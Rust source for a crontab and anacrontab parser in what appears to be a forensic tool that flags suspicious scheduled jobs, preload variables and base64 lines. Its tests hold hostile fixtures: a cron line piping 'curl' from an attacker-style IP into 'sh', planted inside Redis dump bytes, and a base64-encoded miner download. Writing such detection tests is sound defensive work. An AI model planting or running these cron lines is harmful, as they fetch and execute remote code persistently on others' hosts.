//! Crontabs: five fields or an @word, a user in those of the system, and the command.

use super::lines::{assignment, physical, word};
use super::{Found, Parsed, Problem, Text, decode};
use crate::facts::HostText;

/// /etc/crontab and /etc/cron.d: the sixth field is a user.
pub(super) fn system(text: &Text<'_>) -> Parsed {
    table(text.bytes, None)
}

/// A user's own crontab, which bears the user's name.
pub(super) fn of_user(text: &Text<'_>) -> Parsed {
    table(text.bytes, Some(&text.name()))
}

fn table(bytes: &[u8], owner: Option<&HostText>) -> Parsed {
    let (mut found, mut problems) = (Vec::new(), Vec::new());
    for (number, line) in physical(bytes) {
        let line = line.trim_ascii();
        if line.is_empty() || line.starts_with(b"#") {
            continue;
        }
        // The padding of base64 looks like an assignment of nothing.
        let encoded = !line.iter().any(u8::is_ascii_whitespace) && decode::decoded(line).is_some();
        if let Some((name, _)) = assignment(line).filter(|_| !encoded) {
            // MAILTO and PATH run nothing; these change what every command below loads or runs.
            if name.starts_with(b"LD_") || name == b"BASH_ENV" || name == b"SHELL" {
                let command = HostText::from(line);
                found.push(Found {
                    line: Some(number),
                    user: owner.cloned(),
                    command,
                    ..Found::default()
                });
            }
            continue;
        }
        match job(line, owner) {
            Some(job) => found.push(Found { line: Some(number), ..job }),
            None if encoded || decode::decoded(line).is_some() => found.push(Found {
                line: Some(number),
                user: owner.cloned(),
                command: HostText::from(line),
                ..Found::default()
            }),
            // cron itself skips such lines: a database dumped here by an intruder has many.
            None => problems.push(Problem { line: number, what: "not a crontab line" }),
        }
    }
    (found, problems)
}

/// One job; `None` where the line has no schedule or no command.
fn job(line: &[u8], owner: Option<&HostText>) -> Option<Found> {
    let fields = if line.starts_with(b"@") { 1 } else { 5 };
    let mut rest = line;
    let mut schedule: Vec<u8> = Vec::new();
    for _ in 0..fields {
        let (field, tail) = word(rest);
        if !is_time(field) {
            return None;
        }
        if !schedule.is_empty() {
            schedule.push(b' ');
        }
        schedule.extend_from_slice(field);
        rest = tail;
    }
    let user = match owner {
        Some(owner) => owner.clone(),
        None => {
            let (user, tail) = word(rest);
            rest = tail;
            HostText::from(user)
        }
    };
    (!rest.is_empty()).then(|| Found {
        user: Some(user),
        schedule: Some(HostText(schedule)),
        command: HostText::from(rest),
        ..Found::default()
    })
}

/// A field of a schedule, as `*/5`, `1-5`, `mon,fri`, `@reboot`, `0~59` (cronie's at random), or
/// `-*/15` of SUSE.
fn is_time(field: &[u8]) -> bool {
    if let Some(word) = field.strip_prefix(b"@") {
        return !word.is_empty() && word.iter().all(u8::is_ascii_alphanumeric);
    }
    let marked = field.iter().any(|b| b.is_ascii_digit() || b"*~".contains(b));
    let named =
        field.len() >= 3 && field.iter().all(|b| b.is_ascii_alphabetic() || b",-".contains(b));
    let plain = field.iter().all(|b| b.is_ascii_alphanumeric() || b"*,/-~#?L".contains(b));
    // A month's or day's name is three letters; longer words are commands.
    let parts = field.split(|b| b",-/~".contains(b));
    let short =
        parts.into_iter().all(|part| part.len() <= 3 || part.iter().all(u8::is_ascii_digit));
    (marked || named) && plain && short
}

/// /etc/anacrontab: period in days or an @word, delay in minutes, a name, and the command.
pub(super) fn anacron(text: &Text<'_>) -> Parsed {
    let (mut found, mut problems) = (Vec::new(), Vec::new());
    for (number, line) in physical(text.bytes) {
        let line = line.trim_ascii();
        if line.is_empty() || line.starts_with(b"#") || assignment(line).is_some() {
            continue;
        }
        let (period, rest) = word(line);
        let (delay, rest) = word(rest);
        let (name, command) = word(rest);
        if command.is_empty() || !is_time(period) {
            problems.push(Problem { line: number, what: "not an anacrontab line" });
            continue;
        }
        let days = if period.starts_with(b"@") { &b""[..] } else { b" days" };
        let schedule = [period, days, b" + ", delay, b" min"].concat();
        found.push(Found {
            line: Some(number),
            name: Some(HostText::from(name)),
            user: Some(HostText::from("root")),
            schedule: Some(HostText(schedule)),
            command: HostText::from(command),
        });
    }
    (found, problems)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::indexing_slicing)]
    use super::*;
    use crate::evidence::HostPath;
    use proptest::prelude::*;

    fn parse(parser: super::super::Parse, bytes: &[u8]) -> Parsed {
        parser(&Text { path: &HostPath::from("/var/spool/cron/crontabs/www"), bytes })
    }

    fn short(found: &[Found]) -> Vec<String> {
        let text = |t: &Option<HostText>| t.as_ref().map_or("-".into(), ToString::to_string);
        let one = |f: &Found| {
            let line = f.line.unwrap_or(0);
            format!("{line} [{}] {} : {}", text(&f.schedule), text(&f.user), f.command)
        };
        found.iter().map(one).collect()
    }

    #[test]
    fn a_system_crontab() {
        let (found, problems) = parse(
            system,
            b"# m h\nSHELL=/bin/sh\nMAILTO=\"\"\nLD_PRELOAD=/tmp/x.so\n\
              17 *\t* * *\troot    cd / && run-parts /etc/cron.hourly\n\
              @reboot root /usr/bin/x %in\n*/5 0-6 1,15 jan mon-fri www sh -c 'a b'\r\n* * *\n",
        );
        assert_eq!(
            short(&found),
            [
                "2 [-] - : SHELL=/bin/sh",
                "4 [-] - : LD_PRELOAD=/tmp/x.so",
                "5 [17 * * * *] root : cd / && run-parts /etc/cron.hourly",
                "6 [@reboot] root : /usr/bin/x %in",
                "7 [*/5 0-6 1,15 jan mon-fri] www : sh -c 'a b'",
            ]
        );
        assert_eq!(problems, [Problem { line: 8, what: "not a crontab line" }]);
    }

    #[test]
    fn a_users_crontab_among_bytes_of_a_database() {
        let (found, problems) = parse(
            of_user,
            b"REDIS0009\xfa\tredis-ver\n\n*/1 * * * * curl -fsSL http://198.51.100.23/i.sh | sh\n\n\xff\xfe\x00",
        );
        assert_eq!(
            short(&found),
            ["3 [*/1 * * * *] www : curl -fsSL http://198.51.100.23/i.sh | sh"]
        );
        assert_eq!(problems.len(), 2);
    }

    #[test]
    fn a_line_that_is_base64_as_a_whole() {
        // "curl -fsSL http://198.51.100.23/xmr.sh|sh"
        let (found, _) =
            parse(of_user, b"Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g=\n");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, Some(1));
    }

    #[test]
    fn anacrontab() {
        let (found, problems) = parse(
            anacron,
            b"RANDOM_DELAY=45\n1\t5\tcron.daily\tnice run-parts /etc/cron.daily\n@monthly 45 m /bin/x\nword\n",
        );
        assert_eq!(
            short(&found),
            [
                "2 [1 days + 5 min] root : nice run-parts /etc/cron.daily",
                "3 [@monthly + 45 min] root : /bin/x"
            ]
        );
        assert_eq!(problems.len(), 1);
    }

    proptest! {
        #[test]
        fn any_bytes(bytes: Vec<u8>) {
            for parser in [system, of_user, anacron] {
                let (found, problems) = parse(parser, &bytes);
                prop_assert!(found.len() + problems.len() <= bytes.len() + 1);
            }
        }

        #[test]
        fn nearly_crontabs(text in "([*@/0-9a-z =]{0,12}[ \t\n]){0,20}") {
            parse(system, text.as_bytes());
        }
    }
}
